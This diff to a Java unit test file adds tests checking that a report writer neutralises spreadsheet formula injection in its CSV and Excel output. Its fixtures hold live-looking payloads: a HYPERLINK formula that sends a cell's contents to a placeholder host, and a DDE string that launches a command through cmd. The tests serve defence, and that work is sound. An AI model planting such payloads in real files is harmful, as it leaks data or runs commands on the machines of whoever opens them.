@@ -12,6 +12,7 @@ import java.util.List;
 import java.util.Map;
 import java.util.stream.IntStream;
 
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.DataFormatter;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
@@ -29,6 +30,15 @@ import jp.advisor.evaluation.Evaluation.Finding;
 class ReportFormatTest {
 
     private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
+
+    static final String HYPERLINK = "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"詳細\")";
+
+    /** Cells a submission's author could make Excel evaluate: every formula starter OWASP lists. */
+    static final ReviewReport FORMULAS = new ReviewReport("v", "p",
+            List.of(new ReviewReport.ReviewedSubmission(HYPERLINK, "+81-6", "-1", List.of(new Finding("@SUM(A1)",
+                    "warning", "strategies/1-1", new jp.advisor.evaluation.Evaluation.Explanation("\t=1+1", "\r=1+1"),
+                    Map.of(), "review.x")))),
+            List.of(new ReviewReport.UnreadableSource(HYPERLINK, List.of("=cmd|' /C calc'!A0"))));
 
     static byte[] written(ReportFormat format, ReviewReport report) throws IOException {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
@@ -104,6 +114,19 @@ class ReportFormatTest {
             List<Map<String, String>> rows = read(written(ReportFormat.CSV, report));
 
             assertThat(rows.get(0)).containsEntry("source", "a,b.xlsx").containsEntry("message_ja", awkward);
+        }
+
+        @Test
+        void a_value_a_spreadsheet_would_take_for_a_formula_starts_with_a_quote() throws IOException {
+            String csv = new String(written(ReportFormat.CSV, FORMULAS), StandardCharsets.UTF_8);
+            List<Map<String, String>> rows = read(written(ReportFormat.CSV, FORMULAS));
+
+            assertThat(csv).contains("\r\n\"'=HYPERLINK(", ",'+81-6,'-1,");
+            assertThat(rows.get(0)).containsEntry("source", "'" + HYPERLINK).containsEntry("organization", "'+81-6")
+                    .containsEntry("fiscalYear", "'-1").containsEntry("code", "'@SUM(A1)")
+                    .containsEntry("message_ja", "'\t=1+1").containsEntry("message_en", "'\r=1+1")
+                    .containsEntry("location", "strategies/1-1");
+            assertThat(rows.get(1)).containsEntry("source", "'" + HYPERLINK).containsEntry("message_ja", "'=cmd|' /C calc'!A0");
         }
 
         @Test
@@ -242,6 +265,22 @@ class ReportFormatTest {
 
                 assertThat(values(sheet.getRow(1))).containsExactly("minato-r6.xlsx", "シート「戦略」が見つかりません");
                 assertThat(values(sheet.getRow(2))).containsExactly("minato-r6.xlsx", "fiscal year is missing");
+            }
+        }
+
+        @Test
+        void text_that_looks_like_a_formula_is_written_as_a_string_cell_never_a_formula() throws IOException {
+            try (XSSFWorkbook workbook = read(FORMULAS)) {
+                Row row = workbook.getSheet("指摘").getRow(1);
+                Row unreadable = workbook.getSheet("読めないファイル").getRow(1);
+
+                assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
+                assertThat(row.getCell(0).getStringCellValue()).isEqualTo(HYPERLINK);
+                assertThat(values(row)).startsWith(HYPERLINK, "+81-6", "-1");
+                assertThat(IntStream.range(0, row.getLastCellNum()).mapToObj(row::getCell))
+                        .allSatisfy(cell -> assertThat(cell.getCellType()).isEqualTo(CellType.STRING));
+                assertThat(unreadable.getCell(1).getCellType()).isEqualTo(CellType.STRING);
+                assertThat(unreadable.getCell(1).getStringCellValue()).isEqualTo("=cmd|' /C calc'!A0");
             }
         }
 
